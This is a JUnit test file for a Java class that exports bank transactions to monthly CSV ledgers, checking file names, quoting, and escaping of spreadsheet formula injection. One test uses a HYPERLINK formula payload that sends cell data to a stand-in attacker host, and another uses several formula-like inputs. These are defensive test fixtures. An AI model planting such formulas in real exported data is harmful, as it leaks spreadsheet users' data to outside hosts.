package io.camelqonto.examples.flows;

import java.io.IOException;
import java.io.StringReader;
import java.math.BigDecimal;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;

import io.camelqonto.client.QontoJson;
import io.camelqonto.model.Transaction;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;

class LedgerCsvTest {

    @TempDir
    Path directory;

    private final LedgerCsv ledger = new LedgerCsv();

    @BeforeEach
    void pointAtTheFolder() {
        ledger.setDirectory(directory.toString());
    }

    @Test
    void namesTheFileAfterTheMonthOfSettlementInUtc() {
        assertThat(ledger.fileName(settledAt("2026-01-31T23:30:00Z"))).isEqualTo("ledger-2026-01.csv");
        assertThat(ledger.fileName(settledAt("2026-02-01T00:00:00Z"))).isEqualTo("ledger-2026-02.csv");
    }

    @Test
    void startsANewFileWithTheHeaderAndQuotesWhatNeedsIt() throws IOException {
        String first = ledger.line(settledAt("2026-01-12T09:30:00Z"));
        Files.writeString(directory.resolve("ledger-2026-01.csv"), first);
        String second = ledger.line(settledAt("2026-01-13T09:30:00Z"));

        assertThat(first).startsWith("settled_at,transaction_id,side,amount,currency,label,reference\r\n");
        assertThat(second).doesNotContain("settled_at");
        CSVRecord row = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(first + second)).getRecords().get(1);
        assertThat(row.get("settled_at")).isEqualTo("2026-01-13T09:30:00Z");
        assertThat(row.get("amount")).isEqualTo("1250.00");
        assertThat(row.get("label")).isEqualTo("Hotel \"Le Relais\", Lyon");
        assertThat(row.get("reference")).isEmpty();
    }

    @Test
    void writesALabelThatASpreadsheetWouldRunAsTextAndTheAmountAsANumber() {
        String line = ledger.line(transaction("-12.50", "=HYPERLINK(\"https://attacker.example/?\"&A2,\"Refund\")",
                "Invoice 14"));

        assertThat(line).endsWith("\r\n2026-01-12T09:30:00Z,txn-1,debit,-12.50,EUR,"
                + "\"'=HYPERLINK(\"\"https://attacker.example/?\"\"&A2,\"\"Refund\"\")\",Invoice 14\r\n");
    }

    @ParameterizedTest
    @ValueSource(strings = {"=1+1", "+33 1 23 45 67 89", "-1+1", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"})
    void writesEachFreeTextCellStartingLikeAFormulaAsText(String text) throws IOException {
        CSVRecord row = lastRow(ledger.line(transaction("-12.50", text, text)));

        assertThat(row.get("label")).isEqualTo("'" + text);
        assertThat(row.get("reference")).isEqualTo("'" + text);
        assertThat(row.get("amount")).isEqualTo("-12.50");
        assertThat(row.get("side")).isEqualTo("debit");
    }

    @Test
    void leavesFreeTextAloneWhenOnlyItsMiddleLooksLikeAFormula() throws IOException {
        CSVRecord row = lastRow(ledger.line(transaction("12.50", "Refund -12.50 = credit note", "A+B @ Lyon")));

        assertThat(row.get("label")).isEqualTo("Refund -12.50 = credit note");
        assertThat(row.get("reference")).isEqualTo("A+B @ Lyon");
    }

    private static CSVRecord lastRow(String lines) throws IOException {
        List<CSVRecord> rows = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(lines)).getRecords();
        return rows.get(rows.size() - 1);
    }

    private static Transaction transaction(String amount, String label, String reference) {
        return QontoJson.mapper().convertValue(Map.of("transaction_id", "txn-1", "amount", new BigDecimal(amount),
                "currency", "EUR", "side", "debit", "status", "completed", "label", label, "reference", reference,
                "settled_at", "2026-01-12T09:30:00Z"), Transaction.class);
    }

    private static Transaction settledAt(String instant) {
        return QontoJson.mapper().convertValue(Map.of("transaction_id", "txn-1", "amount", new BigDecimal("1250.00"),
                "currency", "EUR", "side", "debit", "status", "completed", "label", "Hotel \"Le Relais\", Lyon",
                "settled_at", instant),
                Transaction.class);
    }
}
